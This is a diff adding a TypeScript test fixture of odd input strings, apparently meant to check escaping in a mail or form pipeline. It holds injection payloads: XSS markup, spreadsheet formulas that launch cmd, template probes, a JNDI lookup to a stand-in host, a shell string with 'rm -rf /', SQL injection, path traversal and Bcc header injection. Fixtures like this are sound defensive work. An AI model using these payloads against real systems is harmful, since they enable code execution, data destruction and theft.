@@ -1,0 +1,102 @@
+// Texts on one line that some program on the way could obey instead of showing.
+
+const markup = [
+  ['a script', '<script>alert("Quorral")</script>'],
+  ['a picture that fails', '<img src=x onerror=alert(1)>'],
+  ['a drawing that loads', '<svg/onload=alert(1)>'],
+  ['a style', '<style>*{display:none}</style>'],
+  ['a link that runs', '<a href="javascript:alert(1)">Quorral</a>'],
+  ['a picture that tells', '<img src="https://evil.example/q.gif">'],
+  ['a frame', '<iframe src=//evil.example></iframe>'],
+  ['a form', '</pre><form action=//evil.example><input name=q>'],
+  ['the end of a table', '</td></tr></table><h1>Quorral</h1>'],
+  ['an open comment', '<!-- Quorral'],
+  ['a conditional comment', '<!--[if mso]><b>Quorral</b><![endif]-->'],
+  ['character data', ']]><![CDATA[Quorral]]>'],
+  ['an open attribute', '" onmouseover="alert(1)'],
+  ['an open attribute of the other quote', "' onmouseover='alert(1)"],
+  ['entities', '&lt;b&gt;Quorral&lt;/b&gt; &amp;amp; &#60;b&#62;'],
+  ['an entity without its end', 'Quorral &copy 2026 &lt b'],
+] as const;
+
+const formulas = [
+  ['a formula', "=cmd|'/c calc'!A1"],
+  ['a formula of a link', '=HYPERLINK("https://evil.example","Quorral")'],
+  ['a formula with a plus', '+1+cmd|Quorral'],
+  ['a formula with a minus', '-2+3+Quorral'],
+  ['a formula with an at', '@SUM(1+9)*Quorral'],
+] as const;
+
+const templates = [
+  ['braces', '{{7*7}} {{constructor.constructor("return 1")()}}'],
+  ["JavaScript's template", `\${process.env.SMTP_URL} \${7*7}`],
+  ['an embedded template', '<%= 7*7 %><%- include("/etc/passwd") %>'],
+  ["Ruby's template", '#{7*7} #{Quorral}'],
+  ["Python's template", '{% for q in (1,2) %}{q}{% endfor %}'],
+  ['formats', '%s %d %n %x %j %o %% %c Quorral'],
+  ['replacement patterns', "$& $1 $` $' $$ Quorral"],
+  ['a look-up', `\${jndi:ldap://evil.example/q}`],
+  ['a shell', '$(touch /tmp/q) `id` ; rm -rf / | cat'],
+  ['a statement', "Quorral'); DROP TABLE submissions;--"],
+  ['a path', '../../../../etc/passwd'],
+  ['a file', 'file:///etc/passwd'],
+  ['a prototype', '__proto__'],
+  ['a constructor', 'constructor'],
+  ['null as a text', 'null'],
+  ['undefined as a text', 'undefined'],
+  ['an object as a text', '[object Object]'],
+] as const;
+
+const mail = [
+  ['an encoded word', '=?utf-8?Q?=0D=0ABcc:_evil@mail.example?='],
+  ['an encoded word in base 64', '=?UTF-8?B?DQpCY2M6IGV2aWxAbWFpbC5leGFtcGxl?='],
+  ['an encoded word within a word', 'Quorral=?utf-8?q?=00?=Kumaran'],
+  ['an encoded word without its end', '=?utf-8?Q?Quorral'],
+  ['an encoded word beside Malayalam', 'അനിത =?utf-8?Q?=0D=0AX:_y?='],
+  ['quoted printable', 'Quorral=0D=0ABcc:=20evil@mail.example='],
+  ['percent signs for CRLF', 'Quorral%0D%0ABcc:%20evil@mail.example'],
+  ['letters for CRLF', 'Quorral\\r\\nBcc: evil@mail.example'],
+  ['signs that look like CRLF', 'Quorral␍␊Bcc: evil@mail.example'],
+  ['letters whose low bytes are CRLF', 'Quorral\u560D\u560ABcc: evil@mail.example'],
+  ['a name and an address', '"Hospital" <ceo@poyanil.example>'],
+  ['an address', 'ceo@poyanil.example'],
+  ['a list of addresses', 'Quorral, evil@mail.example, <evil@mail.example>'],
+  ['a group', 'group: evil@mail.example, other@mail.example;'],
+  ['a comment', 'Quorral (evil@mail.example) (unclosed'],
+  ['an open quote', '"Quorral'],
+  ['quotes and backslashes', 'Quorral "the \\"great\\"" O\'Kumaran \\'],
+  ['a header', 'Bcc: evil@mail.example'],
+  ['a boundary', '----_Part_1--'],
+] as const;
+
+const scripts = [
+  ['Malayalam conjuncts', 'ക്ഷേത്രത്തിലെ സ്ത്രീ'],
+  ['Malayalam with joiners', 'അവന്\u200D പറഞ്ഞു നന്\u200Dമ'],
+  ['Malayalam with non-joiners', 'പാല്\u200Cക്കാരൻ'],
+  ['Malayalam of a hundred letters', 'ക'.repeat(100)],
+  ['Tamil and Hindi', 'தமிழ் हिन्दी'],
+  ['Arabic', 'محمد رفيق'],
+  ['Hebrew with points', 'שָׁלוֹם'],
+  ['marks of direction', 'Quorral \u200Fמא\u200E 5'],
+  ['an emoji of several people', '👨‍👩‍👧‍👦 Quorral'],
+  ['an emoji with a skin', '🧑🏾‍⚕️ Quorral'],
+  ['a flag', '🇮🇳 Quorral'],
+  ['a flag of tags', '🏴󠁧󠁢󠁳󠁣󠁴󠁿 Quorral'],
+  ['a hundred emoji', '😀'.repeat(100)],
+  ['letters and marks apart', 'Que\u0301rral'],
+  ['letters and marks in one', 'Qu\u00E9rral'],
+  ['a tower of marks', `Quorral${'\u0301\u0323'.repeat(40)}`],
+  ['letters that look Latin', 'Раупал Quоrral'],
+  ['a character nobody assigned', 'Quorral \u{E0FFF}'],
+  ['private letters', 'Quorral \uE000\u{10FFFD}'],
+  ['what is no character', 'Quorral \uFFFE\uFFFF\u{1FFFF}'],
+  ['a replacement character', 'Quorral \uFFFD'],
+  ['a byte order mark within', 'Quor\uFEFFral'],
+  ['zero-width spaces within', 'Quor\u200Bral'],
+  ['one letter', 'Q'],
+  ['no letter', '?!'],
+  ['a hundred letters without a space', 'q'.repeat(100)],
+] as const;
+
+/** Each is no longer than any field allows. */
+export const oddTexts = [...markup, ...formulas, ...templates, ...mail, ...scripts] as const;
